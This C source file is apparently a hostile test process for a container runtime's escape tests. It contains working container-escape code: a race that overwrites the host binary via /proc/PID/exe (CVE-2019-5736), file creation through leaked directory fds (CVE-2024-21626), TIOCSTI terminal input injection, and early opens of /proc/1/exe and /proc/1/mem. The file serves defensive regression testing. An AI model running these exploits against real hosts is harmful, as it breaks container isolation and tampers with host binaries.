// SPDX-License-Identifier: Apache-2.0
/*
 * attack: a hostile process for the escape tests, run inside a container
 * (built with cc -static, copied into a busybox rootfs).
 *
 *   attack fds            print this process's fds: "0 1 2", extra ones as N=TARGET
 *   attack race LOG       watch for processes limpet puts into the container and
 *                         try to reach the host through them: /proc/PID/exe
 *                         (kept, and written once nothing runs it any more:
 *                         CVE-2019-5736) and /proc/PID/fd/N (a directory fd is
 *                         a way out: CVE-2024-21626); every success is a line
 *                         of LOG
 *   attack tiocsti        push "echo INJECTED" into fd 0's input queue
 *   attack init           open /proc/1/exe (read, write, path) and /proc/1/mem
 *                         at once, before PID 1 has had time to protect itself
 *   attack seals FILE     print FILE's memfd seals ("write grow shrink seal",
 *                         "none"); the tests run it on the host, on the
 *                         /proc/PID/exe a container would find
 *
 * Processes of the container itself (busybox, this program) are recognised
 * by their executable's inode and left alone.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64

static int log_fd = -1;
static struct stat own[2];
static int held[MAX_HELD], won[MAX_HELD];
static int n_held, n_won;

static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...)
{
	char buf[512];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(buf, sizeof(buf), fmt, ap);
	va_end(ap);
	if (n > 0 && write(log_fd, buf, (size_t)n) < 0)
		exit(3);
}

static int cmp_int(const void *a, const void *b)
{
	return *(const int *)a - *(const int *)b;
}

static int list_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	int fds[256], n = 0, i;
	struct dirent *e;
	char path[64], target[PATH_MAX];

	if (!d) {
		perror("opendir /proc/self/fd");
		return 1;
	}
	while ((e = readdir(d)) && n < 256) {
		if (e->d_name[0] == '.' || atoi(e->d_name) == dirfd(d))
			continue;
		fds[n++] = atoi(e->d_name);
	}
	qsort(fds, (size_t)n, sizeof(int), cmp_int);
	for (i = 0; i < n; i++) {
		ssize_t len;

		if (fds[i] < 3) {
			printf("%s%d", i ? " " : "", fds[i]);
			continue;
		}
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
		len = readlink(path, target, sizeof(target) - 1);
		target[len > 0 ? len : 0] = '\0';
		printf("%s%d=%s", i ? " " : "", fds[i], target);
	}
	printf("\n");
	closedir(d);
	return 0;
}

static bool ours(const struct stat *st)
{
	int i;

	for (i = 0; i < 2; i++)
		if (st->st_dev == own[i].st_dev && st->st_ino == own[i].st_ino)
			return true;
	return false;
}

/* Through a directory fd of someone else: create a file wherever it points. */
static void try_fds(int pid)
{
	char path[320], target[PATH_MAX];
	struct dirent *e;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	d = opendir(path);
	if (!d)
		return;
	while ((e = readdir(d))) {
		struct stat st;
		ssize_t len;
		int fd, made;

		if (e->d_name[0] == '.' || atoi(e->d_name) < 3)
			continue;
		snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, e->d_name);
		len = readlink(path, target, sizeof(target) - 1);
		target[len > 0 ? len : 0] = '\0';
		fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
		if (fd < 0)
			continue;
		say("fd %d %s %s\n", pid, e->d_name, target);
		if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
			made = openat(fd, "escaped-by-exec", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
			if (made >= 0) {
				say("created escaped-by-exec in %s\n", target);
				close(made);
			}
		}
		close(fd);
	}
	closedir(d);
}

static void try_pid(int pid)
{
	char path[64], target[PATH_MAX];
	struct stat st;
	ssize_t len;
	int fd;

	int i;

	if (pid <= 1 || pid == getpid())
		return;
	for (i = 0; i < n_won; i++)
		if (won[i] == pid)
			return;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) < 0 || ours(&st)) {
		close(fd);
		return;
	}
	len = readlink(path, target, sizeof(target) - 1);
	target[len > 0 ? len : 0] = '\0';
	say("exe %d %s\n", pid, target);
	if (n_won < MAX_HELD)
		won[n_won++] = pid;
	if (n_held < MAX_HELD)
		held[n_held++] = fd;
	else
		close(fd);
	try_fds(pid);
}

/* Once nothing executes it any more, a kept exe can be opened for writing. */
static void try_write_held(void)
{
	char path[64];
	int i, fd;

	for (i = 0; i < n_held; i++) {
		if (held[i] < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (write(fd, "pwned\n", 6) == 6)
			say("wrote the binary of a process limpet put in here\n");
		close(fd);
		close(held[i]);
		held[i] = -1;
	}
}

static int race(void)
{
	char buf[32];
	unsigned long round;
	int fd, last, p;

	for (round = 0;; round++) {
		/* The next processes of this PID namespace get the next numbers. */
		fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
		last = 0;
		if (fd >= 0) {
			ssize_t n = read(fd, buf, sizeof(buf) - 1);

			buf[n > 0 ? n : 0] = '\0';
			last = atoi(buf);
			close(fd);
		}
		for (p = last - 2; p <= last + 2; p++)
			try_pid(p);
		if (round % 256 == 0) {
			try_write_held();
			usleep(100);
		}
	}
	return 0;
}

static int tiocsti(void)
{
	const char *s = "echo INJECTED\n";

	if (!isatty(0)) {
		printf("fd 0 is not a terminal\n");
		return 2;
	}
	for (; *s; s++) {
		if (ioctl(0, TIOCSTI, s) < 0) {
			printf("TIOCSTI: %s\n", strerror(errno));
			return 1;
		}
	}
	printf("TIOCSTI worked\n");
	return 0;
}

static int init_attack(void)
{
	static const struct {
		const char *path;
		int flags;
		const char *what;
	} tries[] = {
		{ "/proc/1/exe", O_RDONLY, "exe-read" },
		{ "/proc/1/exe", O_WRONLY, "exe-write" },
		{ "/proc/1/exe", O_PATH, "exe-path" },
		{ "/proc/1/mem", O_RDWR, "mem" },
	};
	struct timespec start, now;
	int i, fd, won = 0;

	/* The window is at the very start: try at once, and on for 20 ms. */
	clock_gettime(CLOCK_MONOTONIC, &start);
	do {
		for (i = 0; i < 4; i++) {
			fd = open(tries[i].path, tries[i].flags | O_CLOEXEC);
			if (fd < 0)
				continue;
			printf("%s opened\n", tries[i].what);
			won = 1;
		}
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (!won && (now.tv_sec - start.tv_sec) * 1000000000L + now.tv_nsec - start.tv_nsec <
				 20000000L);
	printf(won ? "WON\n" : "refused\n");
	return 0;
}

static int seals(const char *path)
{
	static const struct {
		int seal;
		const char *name;
	} names[] = {
		{ F_SEAL_WRITE, "write" },
		{ F_SEAL_GROW, "grow" },
		{ F_SEAL_SHRINK, "shrink" },
		{ F_SEAL_SEAL, "seal" },
	};
	int fd, set, i, n = 0;

	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		perror(path);
		return 1;
	}
	set = fcntl(fd, F_GET_SEALS);
	if (set < 0) {
		printf("none (%s)\n", strerror(errno));
		close(fd);
		return 0;
	}
	for (i = 0; i < 4; i++)
		if (set & names[i].seal)
			printf("%s%s", n++ ? " " : "", names[i].name);
	printf("%s\n", n ? "" : "none");
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	log_fd = 1;
	if (argc == 2 && !strcmp(argv[1], "fds"))
		return list_fds();
	if (argc == 2 && !strcmp(argv[1], "tiocsti"))
		return tiocsti();
	if (argc == 2 && !strcmp(argv[1], "init"))
		return init_attack();
	if (argc == 3 && !strcmp(argv[1], "seals"))
		return seals(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "race")) {
		log_fd = open(argv[2], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
		if (log_fd < 0 || stat("/proc/self/exe", &own[0]) < 0 ||
		    stat("/bin/busybox", &own[1]) < 0) {
			perror(argv[2]);
			return 2;
		}
		say("racing\n");
		return race();
	}
	fprintf(stderr, "usage: attack fds | race LOG | tiocsti | init | seals FILE\n");
	return 2;
}
